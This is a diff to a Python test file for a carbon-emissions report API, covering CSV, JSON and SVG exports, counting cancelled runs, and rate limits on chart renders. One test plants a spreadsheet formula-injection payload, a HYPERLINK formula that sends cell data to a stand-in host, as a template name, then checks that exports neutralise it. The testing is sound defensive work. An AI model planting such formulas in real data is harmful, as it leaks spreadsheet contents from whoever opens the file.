@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from core.db import Database
 from models.db import Job, Run
+from services.reports import safe_cell
 from tests.support.api import is_problem
 from tests.support.common import new_client
 
@@ -115,7 +116,8 @@ def oracle(specs: list[dict]) -> dict:
     keys = ("runs", "energy", "chosen", "baseline", "actual_runs", "energy_a", "chosen_a", "baseline_a")
     total = dict.fromkeys(keys, 0)
     for sp in specs:
-        if sp["status"] not in ("SUCCEEDED", "FAILED", "TIMED_OUT") or sp["started_at"] is None:
+        # every outcome that consumed compute: a CANCELLED run counts once it had started
+        if sp["status"] not in ("SUCCEEDED", "FAILED", "TIMED_OUT", "CANCELLED") or sp["started_at"] is None:
             continue
         if not (FROM <= sp["started_at"] < TO):
             continue
@@ -203,16 +205,30 @@ def test_ledger_adds_up_to_its_runs(api, api_settings, shared_job, specs, group_
     assert c.status_code == 200 and c.headers["content-type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(c.text)))
     assert len(rows) == len(body["rows"]) + 1 and rows[-1]["key"] == "total"
+    assert "e-0" not in c.text and "e+" not in c.text  # plain decimals a person can read
     for got, exp in zip(rows, [*body["rows"], t], strict=True):
         for k, v in exp.items():
-            assert (float(got[k]) if isinstance(v, int | float) else got[k]) == v, (k, got, exp)
+            if k == "display":  # the CSV carries the display strings of the three figures
+                for d in ("emissions_chosen", "emissions_baseline", "saving"):
+                    # neutralised against formula injection: "-1.00 g" is written '-1.00 g
+                    assert got[d] == safe_cell(v[d]), (d, got, exp)
+            elif k == "runs_by_outcome":
+                assert got[k] == " ".join(f"{o}:{n}" for o, n in v.items()), (got[k], v)
+            elif v is None:
+                assert got[k] == "", (k, got)
+            else:
+                assert (float(got[k]) if isinstance(v, int | float) else got[k]) == v, (k, got, exp)
+        assert got["unit"] == body["unit"]
+    # every row counts its runs per outcome, and they add up to its runs
+    for row in [*body["rows"], t]:
+        assert sum(row["runs_by_outcome"].values()) == row["runs"]
 
 
 def test_svg_chart_and_bad_periods(api):
     _, h = new_client(api, "ledger-svg")
     r = api.get("/v1/reports/carbon?format=svg", headers=h)
     assert r.status_code == 200 and r.headers["content-type"].startswith("image/svg+xml")
-    assert "<svg" in r.text and "baseline" in r.text
+    assert "<svg" in r.text and "baseline" in r.text and "no runs in this period" in r.text
     is_problem(
         api.get("/v1/reports/carbon?from=2026-05-01T00:00:00Z&to=2026-04-01T00:00:00Z", headers=h), 422
     )
@@ -342,3 +358,175 @@ def test_actuals_task_records_measured_figures_and_the_ledger_rests_on_them(api,
     assert carbon["measured_gco2e_baseline"] == pytest.approx(baseline)
     assert carbon["measured_source"] == "csv actuals.csv (actuals)" and carbon["measured_intensity"] > 0
     assert api.get(f"/v1/runs/{ids['before_file']}", headers=h).json()["carbon"]["measured_gco2e"] is None
+
+
+def test_report_for_a_person_names_outcomes_per_run_export_and_one_truth_in_json_csv_svg(
+    api, api_settings, shared_job
+):
+    """Issue 20 item 1 and issue 21 item 7: a template named like a formula and two unnamed recurring jobs
+    on the same cron; runs SUCCEEDED, FAILED and CANCELLED while running (counted and marked), one
+    cancelled before it started (not counted). The JSON names the period, scope, signal and unit, gives the
+    saving in % and says why no run rests on actuals; the rows read distinct labels; the per-run export
+    (JSON and CSV, both ways of asking) carries the methodology and adds up to the total; the CSV neutralises
+    every formula-looking cell; the SVG shows the JSON's own display strings."""
+    import xml.etree.ElementTree as ET
+
+    from models.db import JobTemplate, RecurringJob
+    from tests.support.api import setup_template
+
+    cid, h, tpl = setup_template(api, fleet_template_id="m5.large")
+    db = Database(api_settings)
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    recs = ["rec_same_a_" + secrets.token_hex(3), "rec_same_b_" + secrets.token_hex(3)]
+    with db.session() as s:
+        s.get(JobTemplate, tpl).name = evil
+        for rid in recs:
+            s.add(RecurringJob(id=rid, client_id=cid, job_template_id=tpl, cron="0 1 * * *", schedule_id=rid))
+        s.add(
+            RecurringJob(
+                id="rec_named_" + secrets.token_hex(3),
+                client_id=cid,
+                job_template_id=tpl,
+                name="@SUM(1+1)",
+                cron="0 2 * * *",
+                schedule_id="sch_" + secrets.token_hex(4),
+            )
+        )
+    db.dispose()
+    base = FROM + timedelta(days=3)
+    specs = []
+    for i, (status, started, rec) in enumerate(
+        [
+            ("SUCCEEDED", True, recs[0]),
+            ("FAILED", True, recs[1]),
+            ("CANCELLED", True, recs[0]),  # cancelled while running: 15 min of compute
+            ("CANCELLED", False, recs[1]),  # cancelled before it started: no compute
+            ("SUCCEEDED", True, None),
+        ]
+    ):
+        specs.append(
+            {
+                "status": status,
+                "started_at": base + i * HOUR if started else None,
+                "fleet": "m5.large",
+                "template": tpl,
+                "recurring": rec,
+                "runtime": 900.0 * (i + 1) if started else None,
+                "chosen": 400.0 + 10 * i,
+                "earliest": 500.0 + 10 * i,
+                "realised": None,
+                "measured": None,
+                "measured_baseline": None,
+                "p50": None,
+            }
+        )
+    ids = [r["id"] for r in insert_runs(api_settings, cid, shared_job, specs)]
+    q = {"from": FROM.isoformat(), "to": TO.isoformat(), "group_by": "recurring_job"}
+    body = api.get("/v1/reports/carbon", params=q, headers=h).json()
+    t = body["total"]
+    assert t["runs"] == 4 and t["runs_by_outcome"] == {"CANCELLED": 1, "FAILED": 1, "SUCCEEDED": 2}
+    assert mg(t["emissions_baseline_g"]) == sum(mg(500.0 + 10 * i) for i in (0, 1, 2, 4))
+    assert (
+        t["saving_pct"] == round(t["saving_g"] * 100 / t["emissions_baseline_g"], 2) and t["saving_pct"] > 0
+    )
+    assert body["unit"] == "kg" and t["display"]["emissions_baseline"] == "2.07 kg"
+    assert t["display"]["saving_pct"] == f"{t['saving_pct']:.0f} %"
+    assert body["period"] == "2026-03-01 to 2026-06-01"
+    assert "location-based" in body["signal"] and "CANCELLED while running" in body["scope"]
+    assert {"baseline", "power_model", "signal", "scope"} <= set(body["methodology"])
+    assert "PUE" in body["methodology"]["power_model"]
+    assert t["runs_with_actuals"] == 0 and t["runs_on_forecast"] == 4
+    assert body["actuals_reason"].startswith("no run rests on actuals: 4 run(s) not checked")
+    labels = {r["key"]: r["label"] for r in body["rows"]}
+    assert labels[recs[0]] != labels[recs[1]]  # two unnamed jobs on the same cron read differently
+    assert {labels[recs[0]], labels[recs[1]]} == {f"cron 0 1 * * * ({r})" for r in recs}
+    assert labels[""] == "one-off jobs"
+
+    # per run: JSON and CSV, as /carbon/runs and as ?per_run=true; the methodology on every line
+    runs = api.get("/v1/reports/carbon/runs", params=q, headers=h).json()["runs"]
+    assert [r["run_id"] for r in runs] == [ids[i] for i in (0, 1, 2, 4)]
+    assert [r["outcome"] for r in runs] == ["SUCCEEDED", "FAILED", "CANCELLED", "SUCCEEDED"]
+    assert sum(mg(r["saving_g"]) for r in runs) == mg(t["saving_g"])
+    assert sum(round(r["energy_kwh"] * 1e6) for r in runs) == round(t["energy_kwh"] * 1e6)
+    first = runs[0]
+    assert first["template_name"] == evil and first["recurring_job_label"] == labels[recs[0]]
+    assert first["pue"] > 1 and first["power_kw"] > 0 and first["rests_on"] == "forecast"
+    assert first["chosen_basis"] == "forecast" and first["baseline_basis"] == "forecast"
+    assert "earliest start" in first["baseline_definition"] and first["provider"]
+    for params, headers in (({"format": "csv"}, {}), ({}, {"Accept": "text/csv"})):
+        c = api.get("/v1/reports/carbon/runs", params=q | params, headers=h | headers)
+        assert c.status_code == 200 and c.headers["content-type"].startswith("text/csv")
+        same = api.get("/v1/reports/carbon", params=q | params | {"per_run": "true"}, headers=h | headers)
+        assert c.text == same.text
+        lines = list(csv.DictReader(io.StringIO(c.text)))
+        assert [ln["run_id"] for ln in lines] == [r["run_id"] for r in runs]
+        for ln, r in zip(lines, runs, strict=True):
+            assert float(ln["saving_g"]) == r["saving_g"] and ln["outcome"] == r["outcome"]
+            assert ln["template_name"] == "'" + evil  # neutralised (OWASP), the name still readable
+    # CSV injection: no cell of either CSV starts with a formula character
+    for text in (
+        api.get("/v1/reports/carbon", params=q | {"format": "csv"}, headers=h).text,
+        api.get("/v1/reports/carbon", params=q | {"format": "csv", "group_by": "template"}, headers=h).text,
+        api.get("/v1/reports/carbon/runs", params=q | {"format": "csv"}, headers=h).text,
+    ):
+        for line in csv.reader(io.StringIO(text)):
+            for cell in line:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+                if cell.startswith("-"):
+                    float(cell)  # a negative number is data, not a formula
+    tpl_csv = api.get("/v1/reports/carbon", params=q | {"format": "csv", "group_by": "template"}, headers=h)
+    assert list(csv.DictReader(io.StringIO(tpl_csv.text)))[0]["label"] == "'" + evil
+
+    # the SVG shows the JSON's display strings: the title's total and each row's figures
+    svg = api.get("/v1/reports/carbon", params=q | {"format": "svg"}, headers=h)
+    assert svg.status_code == 200
+    root = ET.fromstring(svg.text)
+    texts = [el.text or "" for el in root.iter("{http://www.w3.org/2000/svg}text")]
+    whole = " ".join(texts)
+    d = t["display"]
+    assert f"saved {d['saving']} CO2e ({d['saving_pct']}) of {d['emissions_baseline']}" in whole
+    assert "2026-03-01 to 2026-06-01" in whole and "0 on actuals, 4 on forecasts" in whole
+    for row in body["rows"]:
+        rd = row["display"]
+        assert rd["emissions_baseline"] in texts and rd["emissions_chosen"] in texts, row
+        assert f"{rd['saving']} ({rd['saving_pct']})" in texts
+    bars = [el for el in root.iter("{http://www.w3.org/2000/svg}rect") if el.get("class") == "bar"]
+    assert len(bars) == 2 * len(body["rows"])
+    assert evil not in svg.text or "&amp;" in svg.text  # names are escaped, the SVG parses
+
+
+def test_chart_renders_are_bounded_per_client_and_in_all(api, shared_job):
+    """Issue 21 item 6: with this client's chart slots taken, its next SVG is refused at once (429 +
+    Retry-After) while another client still gets its chart and every client its JSON; with all slots taken
+    every chart is a 503 + Retry-After; slots come back."""
+    from api.charts import ChartGate
+
+    cid1, h1 = new_client(api, "charts-1")
+    cid2, h2 = new_client(api, "charts-2")
+    old = getattr(api.app.state, "chart_gate", None)
+    api.app.state.chart_gate = gate = ChartGate(per_client=1, total=2)
+    try:
+        with gate.slot(cid1):
+            r = api.get("/v1/reports/carbon?format=svg", headers=h1)
+            is_problem(r, 429)
+            assert int(r.headers["Retry-After"]) >= 1
+            assert api.get("/v1/reports/carbon", headers=h1).status_code == 200  # JSON is not a chart
+            preview = {
+                "job_template_id": "tpl_whatever",
+                "earliest_start": FROM.isoformat(),
+                "latest_finish": (FROM + 3 * HOUR).isoformat(),
+            }
+            # the slot is taken before any work (the template is not even looked up)
+            is_problem(api.post("/v1/schedules/preview?format=svg", json=preview, headers=h1), 429)
+            assert api.get("/v1/reports/carbon?format=svg", headers=h2).status_code == 200
+            with gate.slot(cid2):
+                r = api.get("/v1/reports/carbon?format=svg", headers=h2)
+                is_problem(r, 429)
+                _, h3 = new_client(api, "charts-3")
+                r = api.get("/v1/reports/carbon?format=svg", headers=h3)
+                is_problem(r, 503)
+                assert int(r.headers["Retry-After"]) >= 1
+        assert gate.active == 0
+        assert api.get("/v1/reports/carbon?format=svg", headers=h1).status_code == 200
+    finally:
+        api.app.state.chart_gate = old
